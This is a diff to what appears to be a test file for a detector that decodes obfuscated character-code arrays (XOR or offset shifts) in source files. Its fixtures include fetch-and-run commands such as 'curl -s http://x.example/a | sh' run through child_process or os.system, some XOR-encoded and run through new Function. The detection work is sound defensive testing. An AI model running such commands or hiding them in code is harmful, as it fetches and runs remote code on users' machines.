@@ -83,6 +83,15 @@ describe('character codes shifted by a constant the file applies', () => {
     expect(texts(`const D = ${list((c) => c ^ 0x80)}; const s = D.map((x) => String.fromCharCode(x ^ 128)).join('');`)).toEqual([cmd]);
     // the same list without the shift in the file is not text
     expect(texts(`D = ${list((c) => c + 7)}\nS = bytes(D)\n`)).toEqual([]);
+    // a XOR that makes some codes one digit (`'(' ^ 0x2a` is 2): read once the file applies a shift
+    const call = 'require("child_process").exec("curl -s http://x.example/a | sh")';
+    const xoredCall = `[${[...call].map((c) => c.charCodeAt(0) ^ 0x2a).join(', ')}]`;
+    expect(xoredCall).toMatch(/[[ ]2,/);
+    expect(texts(`const D = ${xoredCall};\nnew Function('require', D.map((c) => String.fromCharCode(c ^ 0x2a)).join(''))(require);\n`)).toEqual([call]);
+    expect(texts(`const D = ${xoredCall};\nsend(D);\n`)).toEqual([]);
+    // the shift held by a name the file gives a number (a default parameter), and a name it gives none
+    expect(texts(`D = ${list((c) => c + 3)}\ndef _unpack(t, k=3):\n    return "".join(chr(c - k) for c in t)\n`)).toEqual([cmd]);
+    expect(texts(`D = ${list((c) => c + 3)}\ndef _unpack(t, k):\n    return "".join(chr(c - k) for c in t)\n`)).toEqual([]);
   });
   it('decodes a quoted literal with a shift of characters read in the same call, when it then names a runner or an address', () => {
     const code = "__import__('os').system('curl -s http://x.example/a.sh | sh')";
